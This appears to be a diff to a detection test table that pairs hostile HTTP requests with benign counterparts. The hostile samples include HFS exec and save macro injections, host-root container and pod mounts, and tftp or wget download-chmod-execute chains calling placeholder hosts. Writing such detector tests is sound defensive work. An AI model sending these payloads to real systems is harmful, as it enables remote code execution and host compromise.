@@ -90,6 +90,8 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001334, 'phpinfo() in a header', header('X-Debug', 'phpinfo();'), header('User-Agent', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)')],
   [9001509, 'a container binding the host root', json('{"Image":"alpine","HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true}}'), json('{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html:ro"]}}')],
   [9001509, 'a pod mounting the host root by hostPath', json('{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'), json('{"spec":{"volumes":[{"name":"d","hostPath":{"path":"/var/log/app"}}]}}')],
+  [9001510, 'an HFS exec macro after a line-break value', q('n=%0A&search=%7D%7B.exec%7Csysteminfo%7Ctimeout%3D15%7Cout%3Dx.%7D%7B.%3Fx.%7D'), q('search=%7B.x%7D+template+docs&n=1')],
+  [9001510, 'an HFS save macro writing a script', q('search=%00%7B.save%7CC%3A%5CUsers%5CPublic%5Ca.vbs%7Cx.%7D'), q('q=%7B.save%7D+button+does+nothing')],
   // rev 2026-12-05a (session 12): the mechanisms of held-out-4's misses
   [9000322, 'a backticked tftp download, chmod and run in a form value', form('langType=en%60cd+%2Ftmp+%26%26+tftp+-g+-r+mpsl+203.0.113.9+%26%26+chmod+%2Bx+mpsl+%26%26+.%2Fmpsl%60'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/"]}')],
   [9000322, 'a cd into /dev/shm, a download, chmod 777 and run after a pipe in JSON', json('{"command":"127.0.0.1|cd /dev/shm;wget http://x.test/x86_64;chmod 777 x86_64;./x86_64 z5"}'), form('message=I+ran+chmod+600+%7E%2F.ssh%2Fconfig%3B+ls+-la+%7E%2F.ssh')],
